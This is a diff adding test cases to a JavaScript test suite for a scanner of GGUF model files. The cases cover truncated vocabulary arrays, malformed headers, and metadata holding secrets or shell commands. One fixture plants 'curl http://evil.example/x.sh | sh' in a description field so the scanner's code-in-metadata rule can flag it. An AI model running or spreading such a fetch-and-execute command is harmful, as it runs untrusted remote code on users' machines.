@@ -101,6 +101,33 @@ tester.run("gguf", {
       bytes: () => gguf({ data: 100 }),
       findings: [{ ruleId: "gguf/tensor-out-of-bounds", severity: "high", message: /token_embd\.weight/ }],
     },
+    {
+      name: "a string-array element longer than what remains (truncated vocabulary)",
+      path: "model.gguf",
+      bytes: () => buildGguf({ kv: [{ key: "tokenizer.ggml.tokens", type: GGUF_TYPE.ARRAY, elementType: GGUF_TYPE.STRING, value: Array.from({ length: 10 }, (_, i) => `${i}`.repeat(100)) }] }).bytes.slice(0, 500),
+      findings: [{ ruleId: "gguf/header-overflow", message: /element \d of `tokenizer\.ggml\.tokens` declares 100 bytes/ }],
+    },
+    {
+      name: "v1 string array read with 32-bit lengths, truncated",
+      path: "model.gguf",
+      bytes: () => buildGguf({ version: 1, kv: [{ key: "tokenizer.ggml.tokens", type: GGUF_TYPE.ARRAY, elementType: GGUF_TYPE.STRING, value: ["a", "b", "c".repeat(200)] }] }).bytes.slice(0, 100),
+      findings: [{ ruleId: "gguf/header-overflow", message: /element 2 of `tokenizer\.ggml\.tokens` declares 200 bytes/ }],
+    },
+    {
+      name: "code in a metadata string (general.description)",
+      path: "model.gguf",
+      bytes: () => gguf({ kv: [...META, { key: "general.description", value: "setup: curl http://evil.example/x.sh | sh" }] }),
+      findings: [
+        { ruleId: "gguf/code-in-metadata", severity: "high", message: /GGUF key general\.description holds a shell command/ },
+        { ruleId: "gguf/url-in-metadata", severity: "low", message: /evil\.example/ },
+      ],
+    },
+    {
+      name: "a credential in a small string array (general.tags)",
+      path: "model.gguf",
+      bytes: () => gguf({ kv: [...META, { key: "general.tags", type: GGUF_TYPE.ARRAY, elementType: GGUF_TYPE.STRING, value: ["text-generation", `hf_${"B".repeat(34)}`] }] }),
+      findings: [{ ruleId: "gguf/secret-in-metadata", severity: "medium" }],
+    },
     { name: "duplicate metadata key", path: "model.gguf", bytes: () => gguf({ kv: [...META, { key: "general.name", value: "other" }] }), findings: [{ ruleId: "gguf/malformed", message: /duplicate metadata key `general\.name`/ }] },
     { name: "alignment not a power of two", path: "model.gguf", bytes: () => gguf({ kv: [...META, { key: "general.alignment", value: 24 }] }), findings: [{ ruleId: "gguf/malformed", message: /not a power of two/ }] },
     { name: "an unknown tensor type", path: "model.gguf", bytes: () => gguf({ tensors: [{ name: "t", dims: [32], type: 4, offset: 0n }] }), findings: [{ ruleId: "gguf/malformed", message: /unknown ggml type 4/ }] },
